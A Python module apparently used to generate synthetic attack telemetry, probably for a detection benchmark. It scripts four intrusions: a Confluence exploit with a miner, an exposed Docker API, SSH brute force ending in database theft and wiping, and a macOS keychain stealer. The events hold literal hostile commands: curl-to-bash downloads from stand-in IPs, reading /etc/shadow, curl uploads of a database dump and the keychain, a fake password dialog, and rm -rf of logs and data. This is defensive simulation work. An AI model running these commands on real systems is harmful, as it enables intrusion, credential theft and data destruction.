"""Intruders on Linux and macOS."""
from . import estate
from .steps import beacon, h, m, s, send, ssh, stage


@estate("confluence-miner", "A wiki without its fix; real-time protection off on Linux; a miner")
def confluence(e):
    e.people(9)
    e.servers("dc", "file")
    w = e.device("WIKI01", "linux", "5.20", "web", facing=True)
    b = e.device("LNX02", "linux", "5.21", "app")
    g = e.device("LNX03", "linux", "5.22", "app")
    w.software.append(("atlassian", "confluence_data_center", "8.5.3"))
    w.av_mode = "1"
    t, ip = e.at(17, "04:52"), "203.0.113.210"
    java = e.base(w, "java", user="confluence", path="/opt/atlassian/confluence/jre/bin/java",
                  command="/opt/atlassian/confluence/jre/bin/java -Dcatalina.base=/opt/atlassian/confluence")
    n = e.net(w, t, java, ip, 8090, action="InboundConnectionAccepted")
    sh = e.run(w, t + s(2), "/usr/bin/bash", f"bash -c curl -s http://{ip}/lh.sh | bash", java)
    cu = e.run(w, t + s(3), "/usr/bin/curl", f"curl -s http://{ip}/lh.sh", sh)
    c = e.net(w, t + s(4), cu, ip, 80)
    e.entry(w, t, ["T1190"], "exploit-public-app", [n, sh, cu])
    e.cause(w, "T1190", "CVE-2023-22527", "would-have-blocked",
            "open and reached; the wiki's own process starts the shell",
            same=("net.exposed",), rows=[n, sh])
    e.note(w, "T1059.004", "T1105")
    f = e.file(w, t + s(9), "FileCreated", "/tmp/kdevtmpfsi", sh, content="miner k", size=5_800_000)
    for i, word in enumerate(("pkill -f xmrig", "chmod 777 /tmp/kdevtmpfsi")):
        e.run(w, t + s(11 + i), "/usr/bin/" + word.split()[0], word, sh)
    mi = e.run(w, t + s(15), "/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi", sh, content="miner k")
    pool = beacon(e, w, t + s(18), mi, "192.0.2.66", "pool.coins.example", 12, 5000, 3333)
    e.harm(w, t + s(15), "T1496", "resource-hijacked", "miner", [f, mi, pool[0]])
    cr = e.run(w, t + s(21), "/usr/bin/crontab", "crontab -", sh)
    cf = e.file(w, t + s(22), "FileCreated", "/var/spool/cron/crontabs/confluence", cr, size=90)
    e.harm(w, t + s(21), "T1053.003", "persistence-added", "cron of the wiki's user", [cr, cf])
    k = ssh(e, w, b, t + m(3), "deploy", sh, "/home/confluence/.ssh/id_rsa")
    f2 = e.file(b, t + m(3) + s(9), "FileCreated", "/tmp/kdevtmpfsi", k, content="miner k", size=5_800_000)
    d = e.detection(b, t + m(3) + s(10), "/tmp/kdevtmpfsi", "Trojan:Linux/CoinMiner.K", True, k, content="miner k")
    e.held(b, "T1496", "scid-6090", t + m(3) + s(10), "real-time protection removed the miner", [f2, d])
    e.cause(w, "T1059.004 T1105 T1496", "scid-6090", "would-have-blocked",
            "real-time protection was off; where it was on, the same file was removed", same=("av.mode",), rows=[f, d])
    e.decoy(g, "scid-6090", "off, never reached")
    e.decoy(w, "CVE-2024-6387", "open, not used")
    e.decoy(w, "CVE-2024-1086", "open, not used")


@estate("docker-api", "A container host that answers everybody; from one node to the next")
def docker(e):
    e.people(4)
    one = e.device("node-1", "linux", "6.11", "app", facing=True)
    two = e.device("node-2", "linux", "6.12", "app")
    for i in (3, 4, 5): e.device(f"node-{i}", "linux", f"6.{10 + i}", "app")
    dk = e.base(one, "dockerd", user="root", path="/usr/bin/dockerd", command="/usr/bin/dockerd -H tcp://0.0.0.0:2375")
    cd = e.base(one, "containerd-shim", user="root", path="/usr/bin/containerd-shim-runc-v2",
                command="/usr/bin/containerd-shim-runc-v2 -namespace moby")
    for n in range(2, 15, 3):  # everybody's scanners knock at this port
        e.net(one, e.at(n, "13:00"), dk, f"192.0.2.{n + 30}", 2375, action="InboundConnectionAccepted")
    t, ip = e.at(16, "19:14"), "203.0.113.24"
    n = e.net(one, t, dk, ip, 2375, action="InboundConnectionAccepted")
    rc = e.run(one, t + s(3), "/usr/bin/runc", "runc --root /var/run/docker/runtime-runc/moby create --bundle /run/x1",
               cd)
    sh = e.run(one, t + s(4), "/bin/sh", "sh -c chroot /mnt /bin/sh -c 'curl -s http://203.0.113.24/t.sh | sh'", rc)
    e.net(one, t + s(5), sh, ip, 80)
    e.entry(one, t, ["T1190", "T1133", "T1610"], "exposed-remote-service", [n, rc, sh])
    e.cause(one, "T1133 T1190 T1610", "net.exposed", "would-have-blocked",
            "the port of the container engine accepts the whole internet", rows=[n])
    f = e.file(one, t + s(12), "FileModified", "/root/.ssh/authorized_keys", sh, size=803)
    e.harm(one, t + s(12), "T1098.004", "persistence-added", "key of the intruder", [f])
    x = e.run(one, t + s(20), "/usr/bin/xmr", "/usr/bin/xmr -o pool.coins.example:443 --tls", sh, content="xmr b")
    e.harm(one, t + s(20), "T1496", "resource-hijacked", "miner",
           [x, *beacon(e, one, t + s(25), x, "192.0.2.67", "pool.coins.example", 10, 4000)])
    q = ssh(e, one, two, t + m(2), "root", sh, "/root/.ssh/id_rsa")
    x = e.run(two, t + m(3), "/usr/bin/xmr", "/usr/bin/xmr -o pool.coins.example:443 --tls", q, content="xmr b")
    e.harm(two, t + m(3), "T1496", "resource-hijacked", "miner",
           [x, *beacon(e, two, t + m(3) + s(5), x, "192.0.2.67", "pool.coins.example", 10, 4000)])
    r = e.run(one, t + m(6), "/usr/bin/rm", "rm -rf /var/log/syslog /var/log/auth.log", sh)
    d = e.file(one, t + m(6) + s(1), "FileDeleted", "/var/log/auth.log", r)
    e.harm(one, t + m(6), "T1070.002", "logs-cleared", "logs of the host", [r, d])
    e.missing |= {"DeviceImageLoadEvents", "DeviceRegistryEvents", "AlertInfo", "AlertEvidence"}


@estate("ssh-guess", "A bastion with passwords; keys on it lead to the databases; data copied and wiped")
def ssh_guess(e):
    e.people(14)
    e.servers("dc", "file")
    bas = e.device("BASTION", "linux", "7.5", "linux", facing=True)
    d1, d2 = e.device("PGDB1", "linux", "7.21", "db"), e.device("PGDB2", "linux", "7.22", "db")
    e.locals.add("deploy")
    for n in range(1, 20, 2):  # the ordinary knocking of the internet
        for i in range(6): e.logon(bas, e.at(n, "05:00") + m(i * 3), e.rng.choice(["root", "pi", "test"]), "Network",
                                   f"192.0.2.{n + 90}", ok=False)
    t, ip = e.at(18, "00:19"), "203.0.113.171"
    fails = [e.logon(bas, t + s(i * 7), e.rng.choice(["admin", "deploy", "deploy", "oracle"]), "Network", ip, ok=False)
             for i in range(160)]
    t += s(160 * 7)
    ok = e.logon(bas, t, "deploy", "Network", ip)
    n = e.net(bas, t - s(1), e.base(bas, "sshd", user="root", path="/usr/sbin/sshd"), ip, 22,
              action="InboundConnectionAccepted")
    sh = e.run(bas, t + s(2), "/usr/bin/bash", "-bash", e.base(bas, "sshd", user="deploy", path="/usr/sbin/sshd"),
               user="deploy")
    e.entry(bas, t, ["T1110.001", "T1110", "T1133", "T1078.003"], "exposed-remote-service", [ok, n, sh])
    e.cause(bas, "T1133 T1110.001 T1110", "net.exposed", "would-have-blocked",
            "SSH with passwords open to the internet; 160 failures, then a success", same=("id.mfa",), rows=[fails[0],
                ok, n])
    c = e.run(bas, t + m(4), "/usr/bin/sudo", "sudo cat /etc/shadow", sh)
    e.run(bas, t + m(4) + s(1), "/usr/bin/cat", "cat /etc/shadow", c, user="root")
    e.harm(bas, t + m(4), "T1003.008", "credentials-stolen", "/etc/shadow", [c])
    e.cause(bas, "T1003.008", "scid-6014", "would-have-limited", "this account may do everything without a password",
            rows=[c])
    e.run(bas, t + m(6), "/usr/bin/find", "find / -name id_* -path *.ssh*", sh)
    for i, db in enumerate((d1, d2)):
        k = t + m(15 + 30 * i)
        q = ssh(e, bas, db, k, "deploy", sh)
        if i == 0:
            p = stage(e, db, k + m(2), q, "/tmp/.x/all.gz", "/usr/bin/pg_dumpall -U postgres -f /tmp/.x/all.gz")
            send(e, db, k + m(9), q, "/usr/bin/curl -s -T /tmp/.x/all.gz ftp://203.0.113.172/in/", "203.0.113.172",
                 None,
                 "T1048.003", 21)
        r = e.run(db, k + m(20), "/usr/bin/sudo", "sudo rm -rf /var/lib/postgresql/14/main", q)
        rows = [e.file(db, k + m(20) + s(1 + i / 3), "FileDeleted", f"/var/lib/postgresql/14/main/base/{16000 + i}", r)
                for i in range(25)]
        e.harm(db, k + m(20), "T1485", "data-destroyed", "the files of the database", [r, rows[:2]])
        e.cause(db, "T1485 T1021.004", "scid-6014", "would-have-limited",
                "the account may do everything without a password", rows=[r])
    r = e.run(bas, t + h(2), "/usr/bin/sudo", "sudo truncate -s 0 /var/log/auth.log /var/log/wtmp", sh)
    f = e.file(bas, t + h(2) + s(1), "FileModified", "/var/log/auth.log", r, size=0)
    e.harm(bas, t + h(2), "T1070.002", "logs-cleared", "auth.log", [r, f])
    bas.skew = 240.0


@estate("mac-stealer", "A free tool for macOS; Gatekeeper off on one notebook")
def mac(e):
    macs = e.people(8, mix="mac")
    e.people(6, first=201, net="21")
    dev, other = macs[3], macs[5]
    t = e.at(e.workday(13), "20:33")
    ld = e.base(dev, "launchd", user=dev.user, path="/sbin/launchd", command="/sbin/launchd")
    sf = e.run(dev, t, "/Applications/Safari.app/Contents/MacOS/Safari", "Safari", ld, user=dev.user)
    e.net(dev, t + s(2), sf, "203.0.113.118", 443, "notes-pro.example.net")
    f = e.file(dev, t + s(38), "FileCreated", f"/Users/{dev.user}/Downloads/NotesPro.dmg", sf, content="dmg a",
               size=7_100_000)
    hd = e.run(dev, t + s(60), "/usr/bin/hdiutil", f"hdiutil attach /Users/{dev.user}/Downloads/NotesPro.dmg", ld,
               user=dev.user)
    ap = e.run(dev, t + s(75), "/Volumes/NotesPro/NotesPro", "/Volumes/NotesPro/NotesPro", ld, user=dev.user,
               content="amos a")
    e.entry(dev, t + s(75), ["T1204.002", "T1553.001"], "user-execution", [f, hd, ap])
    e.cause(dev, "T1204.002 T1553.001", "scid-5009", "would-have-blocked",
            "Gatekeeper was off: the program is not signed",
            rows=[ap])
    o = e.run(dev, t + s(81), "/usr/bin/osascript",
              "osascript -e display dialog \"macOS needs your password\" default answer \"\" "
              "with hidden answer", ap)
    k = e.run(dev, t + s(110), "/bin/cp", f"cp /Users/{dev.user}/Library/Keychains/login.keychain-db /tmp/9921/", ap)
    f = e.file(dev, t + s(111), "FileCreated", "/tmp/9921/login.keychain-db", k)
    e.harm(dev, t + s(110), "T1555.001", "credentials-stolen", "the keychain", [o, k, f])
    e.note(dev, "T1056.002")
    stage(e, dev, t + s(140), ap, "/tmp/out.zip", "/usr/bin/ditto -c -k --sequesterRsrc /tmp/9921 /tmp/out.zip",
          size=9_000_000)
    send(e, dev, t + s(160), ap, "/usr/bin/curl -X POST -F file=@/tmp/out.zip http://203.0.113.119/contact",
         "203.0.113.119", None,
         "T1041", 80)
    la = e.file(dev, t + s(175), "FileCreated", f"/Users/{dev.user}/Library/LaunchAgents/com.notes.helper.plist", ap,
                size=612)
    e.harm(dev, t + s(175), "T1543.001", "persistence-added", "launch agent", [la])
    s2 = e.run(other, t + h(20), "/usr/bin/hdiutil", f"hdiutil attach /Users/{other.user}/Downloads/NotesPro.dmg",
               e.base(other, "launchd", user=other.user, path="/sbin/launchd"), user=other.user)
    e.decoy(macs[0], "scid-5009", "off, never reached")
    e.missing |= {"AlertInfo", "AlertEvidence", "DeviceImageLoadEvents"}
